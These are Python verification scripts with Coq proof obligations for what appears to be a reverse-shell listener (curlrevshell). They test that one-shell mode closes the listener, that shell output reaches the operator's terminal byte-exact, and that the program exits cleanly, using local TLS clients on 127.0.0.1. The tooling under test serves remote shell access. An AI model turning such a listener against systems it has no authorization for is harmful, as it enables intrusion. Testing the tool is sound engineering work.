    # real time, real processes: a round that went wrong is run once more and reported only if it goes wrong again (the known finding is provoked on purpose
    # and reported as it is)
    knownkeys = {k["key"] for k in vlib.known_findings()["known"] if k["property"] == run.pid}
    confirmed, unrepro = [], []
    for w, r in bad:
        if w[0] in knownkeys:
            confirmed.append((w, r)); continue
        k = rs.index(r)
        r2 = e2e_round(binp, os.path.join(run.rundir, "e2e%d_again" % k), *plan[k])
        w2 = verdict(r2)
        if w2:
            confirmed.append((w2, r2))
        else:
            unrepro.append({"round": plan[k], "first_run": w[1]})
    if unrepro:
        run.cov.setdefault("flagged_once_but_not_reproduced", []).append({"stream": "e2e", "cases": unrepro[:5]})
    bad = confirmed
    for (key, what), r in bad[:3]:
        if key != "harness":
            run.violation(key, what, {"stream": "e2e", "input": {"how_the_shell_ends": r["how"], "attached_for_s": r["hold_s"]}, "detail": r})
    bad = [b for b in bad if b[0][0] not in {k["key"] for k in vlib.known_findings()["known"] if k["property"] == run.pid}]
    run.oblige("end to end: %d runs of the real binary with -one-shell (one shell attached for %d s, the others briefly; ended by EOF or by dropping the "
               "connection): the shell works until it ends, then ONE entered line makes the program exit with status 0" % (len(rs), long_hold),
               not bad, json.dumps([dict(r, why=w[1]) for w, r in bad[:3]])[:3000])
    run.stream("e2e", len(rs), len(rs), "real binary under a pty with -one-shell, real TLS /io client; one shell stays attached for %d s (traffic at the "
               "end must still flow, no 'gone' notice before), then each shell ends (chunked EOF, dropped connection, /i closed first with /o's upload left "
               "open, EOF followed by Tab with a 1500-line -ctrl-i source, the very moment it is attached, or after the operator muted it with Ctrl+O and it "
               "printed something) and the operator enters one "
               "empty line: exit status 0 within 6 s" % long_hold, [{k: v for k, v in rs[0].items() if k != "output_tail"}],
               {"holds_s": sorted({r["hold_s"] for r in rs}), "statuses": sorted({str(r["rc"]) for r in rs})})


def watcher_obligation(run):
    """Server.watchIOBEvents of the working tree against Model/OneShell.watch"""
    okw, gen, wlog = vlib.run_translator(run, "watcher")
    run.checker_cmds.append("translator/watcher (go/parser over /repo/internal/hsrv/hsrv.go) -> GenWatch.v ; coqc GenDepC12.v (table_is_watch watcher_actions = true)")
    if not okw:
        run.oblige("translator watcher ran on /repo's working tree", False, wlog[-2000:])
        return
    open(os.path.join(run.rundir, "GenWatch.v"), "w").write(gen)
    open(os.path.join(run.rundir, "GenDepC12.v"), "w").write(
        "From Coq Require Import List String.\nFrom CRS Require Import Lib.Bytes Model.Broker Model.OneShell Props.C12.\nFrom Gen Require Import GenWatch.\n"
        "Theorem c12_tree_watcher : watcher_found = 1%nat /\\ watcher_switches = 1%nat /\\ watcher_early_returns = 0%nat /\\ table_is_watch watcher_actions = true.\n"
        "Proof. vm_compute. repeat split; reflexivity. Qed.\nPrint Assumptions c12_tree_watcher.\n")
    rc1, o1, e1 = vlib.coqc("GenWatch.v", run.rundir, extra_q=[(run.rundir, "Gen")])
    rc2, o2, e2 = vlib.coqc("GenDepC12.v", run.rundir, extra_q=[(run.rundir, "Gen")]) if rc1 == 0 else (1, "", "")
    run.oblige("per-run obligation c12_tree_watcher: in the working tree the event watcher closes the listener (and announces it) exactly for a CONNECTED event "
               "under -one-shell, re-prints the help exactly for a DISCONNECTED event without it, and does nothing else - the table Model/OneShell.watch",
               rc1 == 0 and rc2 == 0, (gen + o1 + e1 + o2 + e2)[-2500:])


def check(run):
    vlib.static_obligations(run)
    watcher_obligation(run)
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    run.checker_cmds.append("go test -c -tags verif -overlay (harness/overlay/hsrv): real Server with real TCP connect probes")
    if not ok:
        run.oblige("hsrv harness builds against /repo", False, log)
        return
    cases = make_cases(run.rng, run.tier)
    send = [{k: v for k, v in c.items() if not k.startswith("_")} for c in cases]
    # independent servers: run the cases in parallel batches
    import concurrent.futures as cf
    def one(k):
        return vlib.run_overlay_test(binp, "TestVerifHsrv", [send[k]], run.rundir, tag="c12_%d" % k, env=dict(os.environ, VERIF_TMP=run.rundir), timeout=300)
    with cf.ThreadPoolExecutor(max_workers=8) as ex:
        outs = list(ex.map(one, range(len(send))))
    res = [o[0][0] if o[0] else None for o in outs]
    errs = [o[1] for o in outs if o[1]]
    if errs or any(r is None for r in res):
        run.oblige("hsrv harness ran all scenarios", False, str(errs[:2]))
        return
    inputs = [dict(c["_desc"], probes=[(m[1], a.get("open")) for m, a in zip(c["_marks"], r.get("acts") or []) if m[0] == "probe"],
                   do=[a for m, a in zip(c["_marks"], r.get("acts") or []) if m[0] == "do"][0]) for c, r in zip(cases, res)]
    for i in inputs:
        i["do"] = {k: v for k, v in i["do"].items() if k != "och"}
    vlib.judge_stream(run, "scenarios", IMPORTS, "case", inputs, res, lambda i, r: term(cases[inputs.index(i)], r), CLAUSES, (),
                      "real Server with and without -one-shell: /i then /o, /o then /i, or /io; preceded by half-attached attempts that go away, refused "
                      "attempts (wrong id, missing id) or a mix; the listening socket is probed with connect(2) at start, after every earlier attempt, "
                      "while half attached, after the ready notice (polling up to 3 s for 'refused'), during traffic through the shell and after the "
                      "shell ended; then Server.Do must have returned ErrOneShellClosed by itself; non-trivial = every scenario",
                      key_fn=lambda i: json.dumps(i["before"]) + i["attach"] + str(i["one_shell"]) + i.get("listen", "") + i.get("probe_after_ready", ""),
                      confirm=lambda idxs: [(one(k)[0] or [None])[0] for k in idxs])
    e2e_stream(run)
    run.assumptions += ["net.Listener.Close makes the kernel refuse new connections 'shortly': polled up to 3 s; http.Server.Shutdown semantics are net/http's",
                        "the program's exit status for ErrOneShellClosed / EOF is modelled (Model/OneShell.exit_code) and exercised on the real binary by C20's check"]
    run.trusted += ["harness/overlay/hsrv", "props/c12.py", "coq/Model/OneShell.v"]


def replay(run, path):
    body = json.load(open(path))
    if (body.get("case") or {}).get("stream") == "e2e":
        print(json.dumps(body["case"], indent=1)[:3000]); print("timing dependent: re-run  bin/check C12 --tier quick")
        return 1
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:3000])
    print("re-run: bin/check C12 --tier quick")
    return 1
