"""C03 - shell output reaches the operator byte-exact, in order, up to end of stream."""
import fcntl, json, os, re, select, signal, socket, ssl, struct, termios, time
import brokerlib as B
import vlib


def realtty_round(binp, d, speed, nlines, rng):
    """The real program on a pty (prompt empty), a real TLS /io shell which sends numbered lines in chunks cut anywhere; the terminal is read
    fast, slowly, or - 'nonblock' - is switched to non-blocking mode by another holder of the tty (ssh, tmux) and not read for a while."""
    os.makedirs(d, exist_ok=True)
    argv = [binp, "-prompt", "", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", os.path.join(d, "cert.txtar")]
    env = dict(os.environ, HOME=d, XDG_CACHE_HOME=os.path.join(d, "xdg")); env.pop("CURLREVSHELL_LOG", None)
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 200, 0, 0))
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid(); fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
            os.dup2(slave, 0); os.dup2(slave, 1); os.dup2(slave, 2); os.close(master); os.chdir(d)
            os.execvpe(argv[0], argv, env)
        finally:
            os._exit(127)
    out = b""
    def pump(until=None, secs=5.0, maxread=65536, pause=0.0):
        nonlocal out
        t0 = time.time()
        while time.time() - t0 < secs:
            if until is not None and re.search(until, out):
                return True
            r, _, _ = select.select([master], [], [], 0.05)
            if r:
                try:
                    out += os.read(master, maxread)
                except OSError:
                    return False
                if pause:
                    time.sleep(pause)
        return until is None
    sent = b"".join(b"L%06d:%s\n" % (k, b"x" * (k % 61)) for k in range(nlines))
    problem = ""
    try:
        if not pump(rb"https://127\.0\.0\.1:(\d+)/c", 25):
            return {"problem": "harness: the program did not start", "sent": len(sent)}
        port = int(re.search(rb"https://127\.0\.0\.1:(\d+)/c", out).group(1))
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        c = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))
        c.sendall(b"POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
        if not pump(rb"ready to go", 20):
            return {"problem": "harness: the shell did not become ready", "sent": len(sent)}
        pump(None, 0.3)
        mark = len(out)
        if speed == "nonblock":
            fl = fcntl.fcntl(slave, fcntl.F_GETFL); fcntl.fcntl(slave, fcntl.F_SETFL, fl | os.O_NONBLOCK)
        c.settimeout(3)
        pos = 0
        try:
            while pos < len(sent):
                n = rng.choice([1, 7, 100, 2047, 2048, 2049, 5000, 20000])
                ch = sent[pos:pos + n]; pos += len(ch)
                c.sendall(b"%x\r\n%s\r\n" % (len(ch), ch))
                if speed == "fast":
                    pump(None, 0.0)
            c.sendall(b"0\r\n\r\n")
        except (socket.timeout, ssl.SSLError, OSError):
            pass            # a stalled terminal pushes back all the way to the shell
        if speed == "nonblock":
            time.sleep(1.0)
            pump(None, 2.5)
        elif speed == "slow":
            pump(rb"Shell is gone", 40, maxread=700, pause=0.002)
        else:
            pump(rb"Shell is gone", 20)
        try:
            c.close()
        except OSError:
            pass
        pump(None, 0.8)
        try:
            os.write(master, b"\x04")
        except OSError:
            pass
        t0 = time.time()
        while time.time() - t0 < 5:
            pump(None, 0.1)
            p_, st = os.waitpid(pid, os.WNOHANG)
            if p_:
                pid = 0
                break
    finally:
        if pid:
            os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)
        os.close(master); os.close(slave)
    shown = re.sub(rb"\x1b\[[0-9;?]*[A-Za-z]", b"", out[mark:]).replace(b"\r", b"")
    p = 0
    while p < len(shown) and p < len(sent) and shown[p] == sent[p]:
        p += 1
    after = shown[p:]
    stray = re.findall(rb"L\d{6}:", after)
    res = {"speed": speed, "sent": len(sent), "shown_prefix": p, "complete": p == len(sent), "closed_notice": b"Shell is gone" in after,
           "after_prefix": after[:160].decode(errors="replace"), "shell_output_after_the_prefix": len(stray)}
    if stray:
        res["problem"] = "after %d bytes identical to what the shell sent the terminal shows other shell output (%s...)" % (p, stray[0].decode())
    elif speed != "nonblock" and p < len(sent):
        res["problem"] = "the output stream ended by itself and only %d of %d bytes were shown" % (p, len(sent))
    elif p == len(sent) and speed != "nonblock" and b"Shell is gone" not in after:
        res["problem"] = "harness: no closure notice seen"
    return res


def mute_stream(run):
    """'apart from output the operator deliberately mutes with Ctrl+O': what arrives after a mute has ended is shown again - also when the mute was the first
    of the session and nothing arrived during it; through the real Shell in virtual time (C19's harness and judge)."""
    import c19
    ok, mbin, mlog = vlib.build_overlay_test(run.rundir, "lib/opshell")
    if not ok:
        run.oblige("opshell harness builds against /repo", False, mlog)
        return
    scheds = []
    for first_gap in (2001, 2500, 10000):
        scheds.append([{"t": 0, "ev": "o"}, {"t": first_gap, "ev": "p"}, {"t": first_gap + 10, "ev": "p"}])                      # first Ctrl+O of the session, silence, then output
        scheds.append([{"t": 0, "ev": "p"}, {"t": 5, "ev": "o"}, {"t": 5 + first_gap, "ev": "p"}, {"t": 6 + first_gap, "ev": "p"}])  # output, Ctrl+O, silence, output
        scheds.append([{"t": 0, "ev": "o"}, {"t": 100, "ev": "p"}, {"t": 100 + first_gap, "ev": "p"}, {"t": 200 + first_gap, "ev": "o"},
                       {"t": 200 + 2 * first_gap, "ev": "p"}])                                                                      # two mute cycles
    mc = [{"i": k, "events": c19.with_tail(e)} for k, e in enumerate(scheds)]
    rc, out, mres = c19.run_cases(run, mbin, mc, "mutedoutput")
    if rc != 0 or len(mres) != len(mc) or any(r.get("fail") for r in mres):
        run.oblige("mute schedules: harness ran under a pty", False, "rc=%s %s" % (rc, out[-800:].decode(errors="replace")))
        return
    vlib.judge_stream(run, "mutedoutput", c19.IMPORTS, "case", mc, mres, c19.term,
                      {1: "shell output which arrived after a mute (Ctrl+O) had ended by itself - two seconds without output - was not shown, or output was "
                          "dropped while nothing was muted", 10: "mute model and implementation differ"}, (),
                      "Ctrl+O as the first thing of a session with no output during the two seconds, after earlier output, and twice in a session; output "
                      "arriving 2001 / 2500 / 10000 ms later must be written to the terminal by the real Shell (virtual time, pty child)",
                      key_fn=lambda c: json.dumps(c["events"]))


def realtty_stream(run):
    binp = os.path.join(run.rundir, "curlrevshell")
    rc, o, e = vlib.sh(["go", "build", "-o", binp, "."], cwd=vlib.REPO, env=vlib.GOENV, timeout=600)
    if rc != 0:
        run.oblige("the program builds", False, (o + e).decode(errors="replace")[-1500:])
        return
    plan = [("fast", 400), ("slow", 1500), ("nonblock", 6000)] if run.tier == "quick" else \
           [("fast", 400), ("fast", 5000), ("slow", 1500), ("slow", 6000), ("nonblock", 6000), ("nonblock", 20000), ("nonblock", 2500)]
    rs = []
    for k, (speed, nl) in enumerate(plan):
        r = realtty_round(binp, os.path.join(run.rundir, "realtty%d" % k), speed, nl, run.rng)
        if r.get("problem"):
            # real time, a real process: a round that went wrong is run once more and reported only if it goes wrong again
            r2 = realtty_round(binp, os.path.join(run.rundir, "realtty%d_again" % k), speed, nl, run.rng)
            if not r2.get("problem"):
                run.cov.setdefault("flagged_once_but_not_reproduced", []).append({"stream": "realtty", "cases": [{"terminal": speed, "first_run": r["problem"]}]})
            r = r2
        rs.append(r)
        if r.get("problem") and not r["problem"].startswith("harness"):
            run.violation("realtty-" + speed, "the real program's terminal did not show a prefix of what the shell sent, byte for byte (numbered lines over real TLS, "
                          "chunks cut anywhere; terminal read %s)" % speed, {"stream": "realtty", "input": {"terminal": speed, "lines": nl}, "detail": r})
    run.oblige("real program on a pty, real TLS shell, %d rounds (terminal read fast / slowly / switched to non-blocking by another holder of the tty and stalled): "
               "what is shown is a prefix of what was sent and nothing of the shell's output follows it; complete before the closure notice when the stream "
               "ended by itself on a terminal which kept up" % len(plan), not any(r.get("problem") for r in rs), json.dumps([r for r in rs if r.get("problem")])[:1500])
    run.stream("realtty", len(plan), len(plan), "the built binary under a pty with -prompt '', a TLS /io client sending 400-20000 numbered lines in chunks of "
               "1..20000 bytes", rs[:3], dist={"complete_rounds": sum(1 for r in rs if r.get("complete")), "by_speed": {r.get("speed", "?"): r.get("shown_prefix") for r in rs}})

TIMPORTS = "From CRS Require Import Lib.Bytes Model.Terminal Judge.Common Judge.C03T."
TCLAUSES = {1: "the terminal did not show exactly the bytes of the Plain lines, in order (lib/opshell modified, dropped or re-encoded shell output)",
            11: "Model/Terminal.shown differs from what the real Shell wrote"}


def term_cases(rng, n):
    """byte sequences cut into reads the way proxyOut's 2048-byte buffer or a slow transport would cut them"""
    texts = ["plain ascii line\n", "naïve café – 日本語 \u2603 \U0001F600\n" * 3, "é" * 1500 + "\n"]
    out = []
    for k in range(n):
        kind = k % 5
        if kind == 0:
            data = rng.choice(texts).encode()
        elif kind == 1:
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200)))              # not UTF-8 at all
        elif kind == 2:
            data = ("x" * rng.randrange(2040, 2050) + "é日本" * 5).encode()                       # a rune across the 2048 boundary
        elif kind == 3:
            data = b"\xff\xfe\x80\xc3" + bytes([0, 27, 8, 13, 10, 127]) + "ü".encode()[:1]     # invalid, control bytes, truncated rune
        else:
            data = "".join(rng.choice(["a", "é", "日", "\U0001F600", "\r\n", "\t"]) for _ in range(rng.randrange(1, 60))).encode()
        how = rng.choice(["one", "bytes", "2048", "random"])
        if how == "one":
            chunks = [data]
        elif how == "bytes":
            chunks = [data[i:i + 1] for i in range(len(data))][:400] + ([data[400:]] if len(data) > 400 else [])
        elif how == "2048":
            chunks = [data[i:i + 2048] for i in range(0, len(data), 2048)]
        else:
            chunks, i = [], 0
            while i < len(data):
                j = i + rng.choice([1, 1, 2, 3, 7, 100, 2048])
                chunks.append(data[i:j]); i = j
        out.append({"i": k, "chunks": [c.hex() for c in chunks if c]})
    return out


def terminal_stream(run):
    ok, binp, log = vlib.build_overlay_test(run.rundir, "lib/opshell")
    run.checker_cmds.append("go1.26 test -c -tags verif -overlay (harness/overlay/opshell): TestVerifPlain feeds Plain lines to the real opshell.New shell "
                            "(pty child) and captures what it writes")
    if not ok:
        run.oblige("opshell harness builds against /repo", False, log)
        return
    cases = term_cases(run.rng, 200 if run.tier == "quick" else 4000)
    # the terminal is resized (a real SIGWINCH to the process) after every chunk, with the whole Shell.Do running: nothing is shown twice
    for k in range(4 if run.tier == "quick" else 40):
        cases.append({"i": len(cases), "winch": True, "chunks": [("<K%02d-%03d>%s\n" % (k, j, "x" * run.rng.randrange(0, 40))).encode().hex() for j in range(run.rng.randrange(3, 12))]})
    inf, outf = os.path.join(run.rundir, "plain.in"), os.path.join(run.rundir, "plain.out")
    with open(inf, "w") as f:
        for c in cases:
            f.write(json.dumps(c) + "\n")
    env = dict(os.environ, VERIF_CASES=inf, VERIF_OUT=outf, VERIF_TMP=run.rundir)
    rc, out = vlib.run_under_pty([binp, "-test.run", "^TestVerifPlain$", "-test.count=1", "-test.timeout", "600s"], env, run.rundir, timeout=700)
    res = [json.loads(l) for l in open(outf)] if os.path.exists(outf) else []
    if rc != 0 or len(res) != len(cases) or any(r.get("fail") for r in res):
        run.oblige("terminal: harness ran all cases under a pty", False, "rc=%s got %d of %d: %s" % (rc, len(res), len(cases), out[-1500:].decode(errors="replace")))
        return
    import re
    def shown_of(c, r):
        b = bytes.fromhex(r.get("shown", ""))
        if c.get("winch"):      # Shell.Do is running: the prompt is redrawn around every write; take the escape sequences and the prompt out
            b = re.sub(rb"\x1b\[[0-9;]*[A-Za-z]", b"", b).replace(b"> ", b"")
        return b
    vlib.judge_stream(run, "terminal", TIMPORTS, "tcase", cases, res,
                      lambda c, r: "mkt [%s] %s" % ("; ".join(vlib.coq_str(bytes.fromhex(h)) for h in c["chunks"]), vlib.coq_str(shown_of(c, r))),
                      TCLAUSES, (0,),
                      "last hop (lib/opshell): UTF-8 text, random non-UTF-8 bytes, control bytes, runes straddling the 2048-byte read boundary, cut into "
                      "one chunk / single bytes / 2048-byte reads / random reads, sent as Plain lines to the real Shell with its output captured; also with the "
                      "whole Shell.Do running and a real SIGWINCH after every chunk (prompt redraws stripped); "
                      "non-trivial = contains non-ASCII bytes (tag 2: a chunk boundary inside a multi-byte sequence)",
                      key_fn=lambda c: json.dumps(c["chunks"]))


CLAUSES = {3: "C03 monitor failed: what was shown is not a prefix of what the attached shell sent (bytes lost, duplicated, reordered or modified), or "
              "a stream that ended by itself did not have everything shown before its close notice"}


def read_scripts(rng, n):
    out = []
    sizes = [0, 1, 2, 3, 100, 2047, 2048, 2049, 4096, 5000]
    for k in range(n):
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}]
        if k % 2:
            ops.append({"op": "admit", "s": 2, "d": "in", "key": B.K(b"a"), "wk": "both", "wfail": -1, "ffail": -1})
        for j in range(rng.randrange(0, 7)):
            sz = rng.choice(sizes)
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((j * 31 + i * 7 + k) % 256 for i in range(sz))), "err": ""})
        end = rng.choice(["eof", "ueof", "closedpipe", "other", "cancel", "none"])
        if end == "cancel":
            ops.append({"op": "cancel", "s": 1})
        elif end != "none":
            sz = rng.choice([0, 0, 1, 10, 2048, 3000])
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((i * 11 + k) % 256 for i in range(sz))), "err": end})
        ops += [{"op": "data", "s": 1, "d": B.K(b"after the end"), "err": ""}, {"op": "release", "s": 1}]
        out.append(ops)
    # long runs of zero-length reads (a transport that keeps returning (0, nil)) between and before data: nothing may end the stream
    for nempty in (99, 100, 101, 250):
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}]
        ops += [{"op": "data", "s": 1, "d": "", "err": ""}] * nempty
        ops += [{"op": "data", "s": 1, "d": B.K(b"after the empty reads"), "err": ""}]
        ops += [{"op": "data", "s": 1, "d": "", "err": ""}] * nempty
        ops += [{"op": "data", "s": 1, "d": B.K(b"and again"), "err": "eof"}, {"op": "release", "s": 1}]
        out.append(ops)
    return out


def stalled(rng, n):
    """Small operator channel, drained at scripted moments: chunks wait inside the broker while later reads happen."""
    out = []
    for k in range(n):
        cap = rng.choice([1, 2, 3])
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
        for j in range(rng.randrange(2, 9)):
            ops.append({"op": "data", "s": 1, "d": B.K(b"chunk-%02d-%d|" % (j, k) * rng.choice([1, 1, 150])), "err": ""})
            if rng.randrange(3) == 0:
                ops.append({"op": "drain", "n": rng.randrange(1, 3)})
        ops.append({"op": "data", "s": 1, "d": B.K(b"tail" if rng.randrange(2) else b""), "err": rng.choice(["eof", "ueof", "other"])})
        ops += [{"op": "drain", "n": 64}] * 14
        out.append({"ops": ops, "ochcap": cap})
    return out


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    n = 300 if run.tier == "quick" else 5000
    B.run_stream(run, binp, "readscripts", 3, read_scripts(run.rng, n), CLAUSES,
                 "read scripts (incl. runs of 99-250 zero-length reads): 0-6 reads of 0/1/2/3/100/2047/2048/2049/4096/5000 bytes (the broker's buffer is 2048), zero-length reads, then the "
                 "stream ends with EOF / unexpected EOF / closed pipe / other error - with 0..3000 bytes returned TOGETHER with the error - or by "
                 "client cancel, or not at all; output offered after the end must not be shown")
    B.run_stream(run, binp, "stalled", 3, stalled(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "slow operator terminal: operator channel of capacity 1-3 drained at scripted moments while 2-8 further reads arrive, so chunks wait "
                 "inside the broker; monitor only (shown = prefix of sent; all shown once drained after a self-end) - the model has an unbounded channel")
    hs = [B.gen_history(run.rng, run.rng.choice([10, 20, 40])) for _ in range(200 if run.tier == "quick" else 4000)]
    B.run_stream(run, binp, "histories", 3, hs, CLAUSES, "random histories (see C01)")
    terminal_stream(run)
    mute_stream(run)
    realtty_stream(run)
    run.assumptions += ["x/term's Terminal.Write passes bytes through while no line is being edited (the harness does not run ReadLine); the pty's own "
                        "output processing (ONLCR) is outside the program",
                        "Ctrl+O muting happens after the operator channel (lib/opshell) and is C19's subject",
                        "relative speeds are explored as orders of reads, forwards and drains inside testing/synctest, not as wall-clock timing"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence",
                    "harness/overlay/opshell/zz_verif_plain_test.go, coq/Model/Terminal.v"]


def replay(run, path):
    return B.replay(run, path, 3)
