"""C03 - shell output reaches the operator byte-exact, in order, up to end of stream."""
import brokerlib as B
import vlib

CLAUSES = {3: "C03 monitor failed: what was shown is not a prefix of what the attached shell sent (bytes lost, duplicated, reordered or modified), or "
              "a stream that ended by itself did not have everything shown before its close notice"}


def read_scripts(rng, n):
    out = []
    sizes = [0, 1, 2, 3, 100, 2047, 2048, 2049, 4096, 5000]
    for k in range(n):
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}]
        if k % 2:
            ops.append({"op": "admit", "s": 2, "d": "in", "key": B.K(b"a"), "wk": "both", "wfail": -1, "ffail": -1})
        for j in range(rng.randrange(0, 7)):
            sz = rng.choice(sizes)
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((j * 31 + i * 7 + k) % 256 for i in range(sz))), "err": ""})
        end = rng.choice(["eof", "ueof", "closedpipe", "other", "cancel", "none"])
        if end == "cancel":
            ops.append({"op": "cancel", "s": 1})
        elif end != "none":
            sz = rng.choice([0, 0, 1, 10, 2048, 3000])
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((i * 11 + k) % 256 for i in range(sz))), "err": end})
        ops += [{"op": "data", "s": 1, "d": B.K(b"after the end"), "err": ""}, {"op": "release", "s": 1}]
        out.append(ops)
    return out


def stalled(rng, n):
    """Small operator channel, drained at scripted moments: chunks wait inside the broker while later reads happen."""
    out = []
    for k in range(n):
        cap = rng.choice([1, 2, 3])
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
        for j in range(rng.randrange(2, 9)):
            ops.append({"op": "data", "s": 1, "d": B.K(b"chunk-%02d-%d|" % (j, k) * rng.choice([1, 1, 150])), "err": ""})
            if rng.randrange(3) == 0:
                ops.append({"op": "drain", "n": rng.randrange(1, 3)})
        ops.append({"op": "data", "s": 1, "d": B.K(b"tail" if rng.randrange(2) else b""), "err": rng.choice(["eof", "ueof", "other"])})
        ops += [{"op": "drain", "n": 64}] * 14
        out.append({"ops": ops, "ochcap": cap})
    return out


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    n = 300 if run.tier == "quick" else 5000
    B.run_stream(run, binp, "readscripts", 3, read_scripts(run.rng, n), CLAUSES,
                 "read scripts: 0-6 reads of 0/1/2/3/100/2047/2048/2049/4096/5000 bytes (the broker's buffer is 2048), zero-length reads, then the "
                 "stream ends with EOF / unexpected EOF / closed pipe / other error - with 0..3000 bytes returned TOGETHER with the error - or by "
                 "client cancel, or not at all; output offered after the end must not be shown")
    B.run_stream(run, binp, "stalled", 3, stalled(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "slow operator terminal: operator channel of capacity 1-3 drained at scripted moments while 2-8 further reads arrive, so chunks wait "
                 "inside the broker; monitor only (shown = prefix of sent; all shown once drained after a self-end) - the model has an unbounded channel")
    hs = [B.gen_history(run.rng, run.rng.choice([10, 20, 40])) for _ in range(200 if run.tier == "quick" else 4000)]
    B.run_stream(run, binp, "histories", 3, hs, CLAUSES, "random histories (see C01)")
    run.assumptions += ["Ctrl+O muting happens after the operator channel (lib/opshell) and is C19's subject",
                        "relative speeds are explored as orders of reads, forwards and drains inside testing/synctest, not as wall-clock timing"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    return B.replay(run, path, 3)
