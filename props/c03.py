"""C03 - shell output reaches the operator byte-exact, in order, up to end of stream."""
import json, os
import brokerlib as B
import vlib

TIMPORTS = "From CRS Require Import Lib.Bytes Model.Terminal Judge.Common Judge.C03T."
TCLAUSES = {1: "the terminal did not show exactly the bytes of the Plain lines, in order (lib/opshell modified, dropped or re-encoded shell output)",
            11: "Model/Terminal.shown differs from what the real Shell wrote"}


def term_cases(rng, n):
    """byte sequences cut into reads the way proxyOut's 2048-byte buffer or a slow transport would cut them"""
    texts = ["plain ascii line\n", "naïve café – 日本語 \u2603 \U0001F600\n" * 3, "é" * 1500 + "\n"]
    out = []
    for k in range(n):
        kind = k % 5
        if kind == 0:
            data = rng.choice(texts).encode()
        elif kind == 1:
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200)))              # not UTF-8 at all
        elif kind == 2:
            data = ("x" * rng.randrange(2040, 2050) + "é日本" * 5).encode()                       # a rune across the 2048 boundary
        elif kind == 3:
            data = b"\xff\xfe\x80\xc3" + bytes([0, 27, 8, 13, 10, 127]) + "ü".encode()[:1]     # invalid, control bytes, truncated rune
        else:
            data = "".join(rng.choice(["a", "é", "日", "\U0001F600", "\r\n", "\t"]) for _ in range(rng.randrange(1, 60))).encode()
        how = rng.choice(["one", "bytes", "2048", "random"])
        if how == "one":
            chunks = [data]
        elif how == "bytes":
            chunks = [data[i:i + 1] for i in range(len(data))][:400] + ([data[400:]] if len(data) > 400 else [])
        elif how == "2048":
            chunks = [data[i:i + 2048] for i in range(0, len(data), 2048)]
        else:
            chunks, i = [], 0
            while i < len(data):
                j = i + rng.choice([1, 1, 2, 3, 7, 100, 2048])
                chunks.append(data[i:j]); i = j
        out.append({"i": k, "chunks": [c.hex() for c in chunks if c]})
    return out


def terminal_stream(run):
    ok, binp, log = vlib.build_overlay_test(run.rundir, "lib/opshell")
    run.checker_cmds.append("go1.26 test -c -tags verif -overlay (harness/overlay/opshell): TestVerifPlain feeds Plain lines to the real opshell.New shell "
                            "(pty child) and captures what it writes")
    if not ok:
        run.oblige("opshell harness builds against /repo", False, log)
        return
    cases = term_cases(run.rng, 200 if run.tier == "quick" else 4000)
    # the terminal is resized (a real SIGWINCH to the process) after every chunk, with the whole Shell.Do running: nothing is shown twice
    for k in range(4 if run.tier == "quick" else 40):
        cases.append({"i": len(cases), "winch": True, "chunks": [("<K%02d-%03d>%s\n" % (k, j, "x" * run.rng.randrange(0, 40))).encode().hex() for j in range(run.rng.randrange(3, 12))]})
    inf, outf = os.path.join(run.rundir, "plain.in"), os.path.join(run.rundir, "plain.out")
    with open(inf, "w") as f:
        for c in cases:
            f.write(json.dumps(c) + "\n")
    env = dict(os.environ, VERIF_CASES=inf, VERIF_OUT=outf, VERIF_TMP=run.rundir)
    rc, out = vlib.run_under_pty([binp, "-test.run", "^TestVerifPlain$", "-test.count=1", "-test.timeout", "600s"], env, run.rundir, timeout=700)
    res = [json.loads(l) for l in open(outf)] if os.path.exists(outf) else []
    if rc != 0 or len(res) != len(cases) or any(r.get("fail") for r in res):
        run.oblige("terminal: harness ran all cases under a pty", False, "rc=%s got %d of %d: %s" % (rc, len(res), len(cases), out[-1500:].decode(errors="replace")))
        return
    import re
    def shown_of(c, r):
        b = bytes.fromhex(r.get("shown", ""))
        if c.get("winch"):      # Shell.Do is running: the prompt is redrawn around every write; take the escape sequences and the prompt out
            b = re.sub(rb"\x1b\[[0-9;]*[A-Za-z]", b"", b).replace(b"> ", b"")
        return b
    vlib.judge_stream(run, "terminal", TIMPORTS, "tcase", cases, res,
                      lambda c, r: "mkt [%s] %s" % ("; ".join(vlib.coq_str(bytes.fromhex(h)) for h in c["chunks"]), vlib.coq_str(shown_of(c, r))),
                      TCLAUSES, (0,),
